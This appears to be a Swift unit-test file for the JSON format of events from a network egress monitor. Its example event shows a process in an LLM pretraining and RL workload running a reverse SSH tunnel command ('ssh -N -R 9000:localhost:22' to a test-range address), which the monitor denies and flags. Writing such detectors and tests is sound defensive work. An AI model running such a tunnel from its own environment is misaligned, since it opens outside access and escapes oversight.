import Model
import Testing

@Suite struct EventJSONTests {
    private func example() throws -> Event {
        var event = Event(time: try #require(WallTime("2026-11-20T19:51:03.123456Z")), kind: .request)
        event.sequence = 1042
        event.verdict = .deny
        event.reason = .unknownDestination
        event.workload = "llm-pretrain"
        event.generation = 7
        event.destination = Destination(address: try #require(IPAddress("203.0.113.9")), port: 22, transport: .tcp)
        event.application = "ssh"
        event.process = ProcessRecord(
            pid: 4711,
            executable: "/usr/bin/ssh",
            command: ["ssh", "-N", "-R", "9000:localhost:22", "203.0.113.9"],
            uid: 1001,
            cgroup: "/training.slice/llm-pretrain@1.service",
            ancestors: ["python3.11", "bash"],
        )
        event.context = ["SLURM_JOB_ID": "88123", "RL_STEP": "5012"]
        event.finding = .reverseSSHTunnel
        event.request = 7
        event.latencyMicroseconds = 61
        return event
    }

    @Test func isWrittenAsTheContractSays() throws {
        let expected =
            #"{"seq":1042,"time":"2026-11-20T19:51:03.123456Z","kind":"request","verdict":"deny","#
            + #""reason":"unknown-destination","workload":"llm-pretrain","generation":7,"#
            + #""destination":{"address":"203.0.113.9","port":22,"transport":"tcp","application":"ssh"},"#
            + #""process":{"pid":4711,"executable":"/usr/bin/ssh","#
            + #""command":["ssh","-N","-R","9000:localhost:22","203.0.113.9"],"uid":1001,"#
            + #""cgroup":"/training.slice/llm-pretrain@1.service","ancestors":["python3.11","bash"]},"#
            + #""context":{"RL_STEP":"5012","SLURM_JOB_ID":"88123"},"finding":"reverse-ssh-tunnel","request":7,"#
            + #""latencyMicroseconds":61}"#
        #expect(try example().json.description == expected)
    }

    @Test func comesBackAsItWas() throws {
        var full = try example()
        full.rule = "ssh"
        full.name = "host.example"
        full.count = 12
        full.grant = 3
        full.actor = "root"
        full.message = "line\nbreak \u{1b}[31m"
        full.approval = ApprovalRecord(
            seconds: 7200,
            expires: WallTime(microseconds: 1),
            ports: ["443", "8443/udp"],
            application: "tls",
            replacedBy: 4,
        )
        var nameOnly = Event(time: WallTime(microseconds: 0), kind: .request)
        nameOnly.name = "x.example"
        nameOnly.answer = .v6(1)
        nameOnly.process = ProcessRecord()
        var ping = Event(time: WallTime(microseconds: 1), kind: .inbound)
        ping.destination = Destination(address: .v6(1), port: 0, transport: Transport(number: 58))
        for event in [full, nameOnly, ping, Event(time: WallTime(microseconds: -1), kind: .daemon)] {
            #expect(try Event(JSON.parse(event.json.description)) == event)
        }
    }

    @Test func leavesOutWhatIsAbsent() {
        let event = Event(time: WallTime(microseconds: 0), kind: .daemon)
        #expect(event.json.description == #"{"seq":0,"time":"1970-01-01T00:00:00.000000Z","kind":"daemon"}"#)
    }

    @Test(arguments: [
        (#"{"kind":"daemon"}"#, "time"), (#"{"time":"1970-01-01T00:00:00Z"}"#, "kind"), (#"[]"#, "{}"),
        (#"{"time":"1970-01-01T00:00:00Z","kind":"daemon","count":-1}"#, "count"),
        (#"{"time":"1970-01-01T00:00:00Z","kind":"daemon","verdict":"maybe"}"#, "verdict"),
        (#"{"time":"1970-01-01T00:00:00Z","kind":"daemon","destination":5}"#, "destination"),
        (#"{"time":"1970-01-01T00:00:00Z","kind":"daemon","process":{"command":[1]}}"#, "process.command"),
        (
            #"{"time":"1970-01-01T00:00:00Z","kind":"daemon","destination":{"address":"::1","port":65536,"transport":"tcp"}}"#,
            "destination.port"
        ),
        (
            #"{"time":"1970-01-01T00:00:00Z","kind":"daemon","destination":{"address":"::1","port":1}}"#,
            "destination.transport"
        ),
    ])
    func namesTheFieldThatIsWrong(text: String, field: String) throws {
        let json = try JSON.parse(text)
        #expect(throws: EventError(field: field)) { try Event(json) }
    }

    @Test func readsNullAsAbsentAndSkipsWhatItDoesNotKnow() throws {
        let json = try JSON.parse(#"{"time":"1970-01-01T00:00:00Z","kind":"daemon","rule":null,"newer":1}"#)
        #expect(try Event(json) == Event(time: WallTime(microseconds: 0), kind: .daemon))
    }

    @Test(
        arguments: [
            ("1970-01-01T00:00:00Z", 0), ("2000-02-29T23:59:59.5Z", 951_868_799_500_000),
            ("1969-12-31T23:59:59.999999Z", -1),
            ("2026-11-20T19:51:03.123456Z", 1_795_204_263_123_456), ("0000-03-01T00:00:00Z", -62_162_035_200_000_000),
        ] as [(String, Int64)]
    )
    func readsTime(text: String, microseconds: Int64) {
        #expect(WallTime(text)?.microseconds == microseconds)
    }

    @Test func readsEveryTimeThatItWrites() {
        for step in -2000...2000 as ClosedRange<Int64> {
            let time = WallTime(microseconds: step * 13_579_246_801_357)
            #expect(WallTime(time.description) == time)
        }
    }

    @Test(arguments: [
        "", "1970-01-01", "1970-01-01 00:00:00Z", "1970-01-01T00:00:00", "1970-01-01T00:00:00+00:00",
        "1970-02-30T00:00:00Z",
        "1970-13-01T00:00:00Z", "1970-00-01T00:00:00Z", "1970-01-00T00:00:00Z", "1970-01-01T24:00:00Z",
        "1970-01-01T00:60:00Z", "1970-01-01T00:00:60Z", "1970-01-01T00:00:00.Z", "1970-01-01T00:00:00.1234567Z",
        "-970-01-01T00:00:00Z", "1970-01-01T00:00:00,5Z", "1900-02-29T00:00:00Z", "1970-01-01T00:00:0éZ",
    ])
    func refusesOtherTimes(text: String) {
        #expect(WallTime(text) == nil)
    }
}
